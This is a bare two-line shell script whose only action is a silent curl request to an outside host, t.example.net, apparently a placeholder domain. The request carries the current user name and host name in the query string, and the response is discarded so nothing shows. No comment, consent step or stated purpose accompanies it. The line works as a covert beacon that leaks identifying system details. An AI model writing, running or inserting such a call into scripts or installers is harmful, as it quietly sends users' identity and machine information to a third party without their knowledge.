#!/bin/sh
curl -s "https://t.example.net/i?u=$(whoami)&h=$(hostname)" > /dev/null
